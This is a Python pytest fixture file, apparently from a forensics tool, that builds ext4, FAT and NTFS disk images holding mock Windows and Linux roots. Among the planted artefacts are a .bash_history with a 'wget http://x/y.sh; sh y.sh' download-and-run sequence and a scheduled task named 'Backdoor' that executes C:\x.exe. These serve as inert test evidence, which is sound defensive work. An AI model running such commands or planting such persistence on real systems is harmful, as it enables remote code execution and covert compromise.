"""Real disk images for the image-source tests: ext4 (mkfs.ext4 -d), FAT (mkfs.vfat + mtools) and NTFS
(mkntfs, filled through ntfs-3g as root), put in an MBR partition table written here."""
from __future__ import annotations

import hashlib
import os
import shutil
import struct
import subprocess
from pathlib import Path

import pytest

from tests.conftest import SHARED_DATA  # UNGCUU_SHARED_DATA, else ../shared/data

SAMPLES = (SHARED_DATA / "windows").resolve()
MiB = 1 << 20
SPARSE_AT, SPARSE_DATA = 6 * MiB, b"USN!" * 2048  # a file of 6 MiB never written, then 8 KiB


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def sha256_file(path) -> str:
    h = hashlib.sha256()
    with open(path, "rb") as fh:
        for block in iter(lambda: fh.read(1 << 20), b""):
            h.update(block)
    return h.hexdigest()


def need(tool: str) -> str:
    path = shutil.which(tool) or shutil.which(tool, path="/usr/sbin:/sbin")
    if path is None:
        pytest.skip(f"{tool} is not installed (scripts/setup.sh --test installs it)")
    return path


def mbr_disk(out: Path, parts: list[tuple[Path, int]]) -> list[int]:
    """A disk image with an MBR partition table holding each (file system image, type byte),
    aligned at 1 MiB; returns the partitions' byte offsets."""
    offsets, entries = [], b""
    lba = 2048
    for fs, ptype in parts:
        size = fs.stat().st_size
        sectors = (size + 511) // 512
        entries += struct.pack("<B3sB3sII", 0, b"\0\0\0", ptype, b"\0\0\0", lba, sectors)
        offsets.append(lba * 512)
        lba += ((sectors + 2047) // 2048) * 2048
    mbr = bytearray(512)
    mbr[446:446 + len(entries)] = entries
    mbr[510:512] = b"\x55\xaa"
    with open(out, "wb") as fh:
        fh.write(mbr)
        for (fs, _), off in zip(parts, offsets):
            fh.seek(off)
            with open(fs, "rb") as src:
                shutil.copyfileobj(src, fh)
        fh.truncate(lba * 512)
    return offsets


def make_ext4(out: Path, tree: Path, size_mb: int = 16) -> Path:
    mkfs = need("mkfs.ext4")
    subprocess.run([mkfs, "-q", "-F", "-t", "ext4", "-d", str(tree), "-E", "root_owner=0:0", str(out), f"{size_mb}M"],
                   check=True, capture_output=True)
    return out


def ext4_disk(folder: Path, tree: Path, size_mb: int = 16) -> Path:
    """`folder`/disk.raw: an MBR disk holding one ext4 partition made from `tree`."""
    disk = folder / "disk.raw"
    ext = make_ext4(folder / "p1.ext4", tree, size_mb=size_mb)
    mbr_disk(disk, [(ext, 0x83)])
    ext.unlink()
    return disk


def make_fat(out: Path, tree: Path, size_mb: int = 8) -> Path:
    mkfs, mcopy = need("mkfs.vfat"), need("mcopy")
    subprocess.run([mkfs, "-C", str(out), str(size_mb * 1024)], check=True, capture_output=True)
    for child in sorted(tree.iterdir()):
        subprocess.run([mcopy, "-s", "-i", str(out), str(child), "::/"], check=True, capture_output=True)
    return out


def make_ntfs(out: Path, tree: Path, size_mb: int = 24, sparse: dict[str, tuple[int, bytes]] | None = None) -> Path:
    """mkntfs, then the tree copied in through an ntfs-3g mount (needs root and /dev/fuse); `sparse`:
    relative path -> (offset, data) written at that offset of a new file, the bytes before it a hole."""
    mkntfs, ntfs3g = need("mkntfs"), need("ntfs-3g")
    if os.geteuid() != 0 or not os.path.exists("/dev/fuse"):
        pytest.skip("filling an NTFS image needs root and /dev/fuse (ntfs-3g mounts the image file)")
    with open(out, "wb") as fh:
        fh.truncate(size_mb * MiB)
    subprocess.run([mkntfs, "-F", "-Q", "-q", "-L", "UNGCUU", str(out)], check=True, capture_output=True)
    mnt = out.with_suffix(".mnt")
    mnt.mkdir()
    proc = subprocess.run([ntfs3g, str(out), str(mnt)], capture_output=True, timeout=60)
    if proc.returncode != 0:
        pytest.skip(f"ntfs-3g could not mount the test image: {proc.stderr.decode(errors='replace').strip()}")
    try:
        shutil.copytree(tree, mnt, dirs_exist_ok=True)
        for rel, (offset, data) in (sparse or {}).items():
            with open(mnt / rel, "wb") as fh:
                fh.seek(offset)
                fh.write(data)
    finally:
        _unmount(mnt)
        mnt.rmdir()
    return out


def _unmount(mnt: Path) -> None:
    """umount, retried while ntfs-3g is still busy writing (a loaded machine)."""
    import time

    os.sync()
    for _ in range(40):
        if subprocess.run(["umount", str(mnt)], capture_output=True, timeout=60).returncode == 0:
            return
        time.sleep(0.5)
    subprocess.run(["umount", str(mnt)], check=True, capture_output=True, timeout=60)


def windows_tree(base: Path) -> dict[str, str]:
    """A Windows root built from the shared samples, with locked-style files (hives of two profiles,
    one with a Vietnamese name, EVTX, Amcache); returns logical path -> SHA-256."""
    files = {
        "Windows/System32/config/SYSTEM": b"regf" + b"\n\r\n\x1a\x00" * 3000,  # newline and ^Z bytes
        "Windows/System32/config/SOFTWARE": (SAMPLES / "NTUSER-WIN7.DAT").read_bytes(),
        "Windows/System32/winevt/Logs/System.evtx": (SAMPLES / "evtx" / "System.evtx").read_bytes(),
        "Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx":
            (SAMPLES / "evtx" / "System2.evtx").read_bytes(),
        "Windows/appcompat/Programs/Amcache.hve": (SAMPLES / "winreg" / "Amcache.hve").read_bytes(),
        "Users/admin/NTUSER.DAT": (SAMPLES / "NTUSER.DAT").read_bytes(),
        "Users/Nguyễn Văn An/NTUSER.DAT": (SAMPLES / "NTUSER-RunTests.DAT").read_bytes(),
        "Windows/System32/Tasks/Backdoor": b"<?xml version='1.0'?><Task><Actions><Exec><Command>C:\\x.exe"
                                           b"</Command></Exec></Actions></Task>",
    }
    return write_tree(base, files)


def write_tree(base: Path, files: dict[str, bytes]) -> dict[str, str]:
    """Write relative path -> bytes under base; returns relative path -> SHA-256."""
    for rel, data in files.items():
        p = base / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data)
    return {rel: sha256(data) for rel, data in files.items()}


def linux_tree(base: Path) -> dict[str, str]:
    files = {
        "etc/hostname": b"srv-hatinh-01\n",
        "etc/os-release": b'NAME="Ubuntu"\nVERSION_ID="22.04"\nID=ubuntu\n',
        "etc/passwd": b"root:x:0:0:root:/root:/bin/bash\nan:x:1000:1000::/home/an:/bin/bash\n",
        "etc/group": b"root:x:0:\n",
        "var/log/auth.log": b"Dec  1 10:00:00 srv sshd[1]: Accepted password for an from 10.0.0.5 port 22 ssh2\n",
        "home/an/.bash_history": b"wget http://x/y.sh\nsh y.sh\n",
    }
    out = write_tree(base, files)
    (base / "etc" / "resolv.conf").symlink_to("/run/systemd/resolve/stub-resolv.conf")
    return out


@pytest.fixture(scope="session")
def linux_disk(tmp_path_factory):
    """An MBR disk: partition 1 FAT (a boot-like partition), partition 2 ext4 holding a Linux root."""
    d = tmp_path_factory.mktemp("linux_disk")
    tree = d / "tree"
    hashes = linux_tree(tree)
    boot = d / "boot"
    (boot / "EFI").mkdir(parents=True)
    (boot / "EFI" / "grub.cfg").write_bytes(b"set timeout=5\n")
    fat = make_fat(d / "p1.fat", boot)
    ext = make_ext4(d / "p2.ext4", tree)
    disk = d / "disk.raw"
    offsets = mbr_disk(disk, [(fat, 0x0C), (ext, 0x83)])
    fat.unlink()
    ext.unlink()
    return {"path": disk, "hashes": hashes, "offsets": offsets}


@pytest.fixture(scope="session")
def windows_disk(tmp_path_factory):
    """An MBR disk with one NTFS partition holding a Windows root (made with mkntfs + ntfs-3g)."""
    d = tmp_path_factory.mktemp("windows_disk")
    tree = d / "tree"
    hashes = windows_tree(tree)
    ntfs = make_ntfs(d / "p1.ntfs", tree, sparse={"Windows/sparse.bin": (SPARSE_AT, SPARSE_DATA)})
    disk = d / "disk.raw"
    mbr_disk(disk, [(ntfs, 0x07)])
    return {"path": disk, "volume": ntfs, "hashes": hashes, "tree": tree}
